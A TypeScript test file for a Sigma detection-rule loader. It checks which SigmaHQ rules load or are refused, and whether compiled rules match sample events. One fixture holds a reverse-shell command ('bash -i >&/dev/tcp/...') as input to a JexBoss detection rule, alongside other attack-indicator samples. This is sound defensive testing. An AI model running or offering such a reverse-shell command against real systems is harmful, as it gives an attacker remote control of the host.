import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadRuleSources, loadRules } from '../../../src/detect/sigma/load.js';
import type { CompiledDetection } from '../../../src/detect/sigma/ruleset.js';

const fixtures = join(import.meta.dirname, '../../fixtures/sigma');
const sigmahq = join(fixtures, 'sigmahq');

/** The Sigma feature each refused SigmaHQ rule uses outside our subset. */
const refusedFeatures: Record<string, string[]> = {
  'aws_update_login_profile.yml': ['fieldref'],
  'azure_ad_failed_auth_from_countries_you_do_not_operate_out_of.yml': ['expand'],
  'file_delete_win_delete_own_image.yml': ['fieldref'],
  'proc_creation_win_exploit_cve_2025_53770_indicators.yml': ['wide'],
  'proc_creation_win_findstr_subfolder_search.yml': ['windash'],
  'proc_creation_win_lolbin_replace.yml': ['windash'],
  'proc_creation_win_msdt_susp_cab_options.yml': ['windash'],
  'proc_creation_win_powershell_defender_disable_feature.yml': ['base64offset'],
  'win_security_dc_machine_account_logon_non_dc_ip.yml': ['expand'],
  'win_system_cobaltstrike_service_installs.yml': ['base64offset'],
};

describe('real SigmaHQ rules', () => {
  it('load unchanged when their features are in the subset, each warned that its logsource never matches', async () => {
    const files = readdirSync(join(sigmahq, 'supported')).sort();
    const result = await loadRules(join(sigmahq, 'supported'));
    expect(result.errors).toEqual([]);
    expect(result.rules.map((rule) => rule.file).sort()).toEqual(files);
    expect(files.length).toBeGreaterThanOrEqual(30);
    expect(result.warnings.map((w) => w.file).sort()).toEqual(files);
    expect(result.warnings.every((w) => /^logsource not mapped \(.*\): never matches$/.test(w.message))).toBe(
      true,
    );
    for (const rule of result.rules) expect(rule.author, rule.file).toBeTruthy();
  });

  it('are refused with the feature they use named, at its line', async () => {
    const result = await loadRules(join(sigmahq, 'refused'));
    expect(result.rules).toEqual([]);
    const byFile = new Map<string, Set<string>>();
    for (const error of result.errors) {
      expect(error.feature, `${error.file}:${error.line} ${error.message}`).toBeDefined();
      expect(error.message).toContain(`'${error.feature}'`);
      const line = readFileSync(join(sigmahq, 'refused', error.file), 'utf8').split('\n')[error.line - 1];
      expect(line, error.file).toContain(`|${error.feature}`);
      byFile.set(error.file, new Set([...(byFile.get(error.file) ?? []), error.feature as string]));
    }
    expect(Object.fromEntries([...byFile].map(([file, features]) => [file, [...features]]))).toEqual(
      refusedFeatures,
    );
  });

  it('match the events they describe, whatever their logsource', async () => {
    const { rules } = await loadRules(join(sigmahq, 'supported'));
    const rule = (file: string) => rules.find((r) => r.file === file) as CompiledDetection;

    // Keyword search with |all, and plain keywords.
    const jexboss = rule('lnx_susp_jexboss.yml');
    expect(jexboss.matches({ line: 'bash -c /bin/bash', other: 'bash -i >&/dev/tcp/192.0.2.1/80' })).toBe(
      true,
    );
    expect(jexboss.matches({ line: 'bash -c /bin/bash' })).toBe(false);

    // cidr, with a filter of private ranges.
    const mobsync = rule('net_connection_win_susp_outbound_mobsync_connection.yml');
    const outbound = {
      Image: 'C:\\Windows\\System32\\mobsync.exe',
      Initiated: 'true',
      DestinationIp: '8.8.8.8',
    };
    expect(mobsync.matches(outbound)).toBe(true);
    expect(mobsync.matches({ ...outbound, DestinationIp: '192.168.1.5' })).toBe(false);

    // A leading (?i) in a regular expression is a flag.
    const stdin = rule('proc_creation_win_hktl_invoke_obfuscation_via_stdin.yml');
    expect(stdin.matches({ CommandLine: 'CMD /C SET x=y&&set a=environment&&x "' })).toBe(true);

    // Values match without regard to case.
    const cloudtrail = rule('aws_cloudtrail_disable_logging.yml');
    expect(cloudtrail.matches({ eventSource: 'cloudtrail.amazonaws.com', eventName: 'stoplogging' })).toBe(
      true,
    );
    expect(cloudtrail.matches({ eventSource: 'cloudtrail.amazonaws.com', eventName: 'LookupEvents' })).toBe(
      false,
    );

    // Dotted field names reach into nested objects.
    const gcp = rule('gcp_dns_zone_modified_or_deleted.yml');
    expect(gcp.matches({ gcp: { audit: { method_name: 'Dns.ManagedZones.Delete' } } })).toBe(true);
    expect(gcp.matches({ gcp: { audit: { method_name: 'Dns.ManagedZones.List' } } })).toBe(false);
  });
});

describe('the Sigma specification correlation examples', () => {
  it('load the multi-document example whole', async () => {
    const text = readFileSync(join(fixtures, 'spec/failed_logins_then_success.yml'), 'utf8');
    const result = loadRuleSources([{ file: 'failed_logins_then_success.yml', text }]);
    expect(result.errors).toEqual([]);
    expect(result.rules.map((rule) => [rule.kind, rule.title])).toEqual([
      ['correlation', 'Correlation - Multiple Failed Logins Followed by Successful Login'],
      ['correlation', 'Multiple failed logons'],
      ['detection', 'Single failed login'],
      ['detection', 'Successful login'],
    ]);
  });

  it('refuse the schema examples for the base rules they lack, and value_sum by name', async () => {
    const result = await loadRules(join(fixtures, 'spec'));
    const schemaErrors = result.errors
      .filter((e) => e.file.startsWith('schema_'))
      .map((e) => `${e.file}:${e.line} ${e.message}`)
      .sort();
    expect(schemaErrors).toEqual([
      "schema_event_count.yml:6 refers to unknown rule '5638f7c0-ac70-491d-8465-2a65075e0d86'",
      "schema_temporal.yml:5 refers to unknown rule 'recon_cmd_a'",
      "schema_temporal.yml:6 refers to unknown rule 'recon_cmd_b'",
      "schema_temporal.yml:7 refers to unknown rule 'recon_cmd_c'",
      "schema_temporal_ordered.yml:5 refers to unknown rule 'recon_cmd_a'",
      "schema_temporal_ordered.yml:6 refers to unknown rule 'recon_cmd_b'",
      "schema_temporal_ordered.yml:7 refers to unknown rule 'recon_cmd_c'",
      "schema_value_count.yml:6 refers to unknown rule '5638f7c0-ac70-491d-8465-2a65075e0d86'",
      "schema_value_sum.yml:3 correlation type 'value_sum' is not supported",
    ]);
  });
});
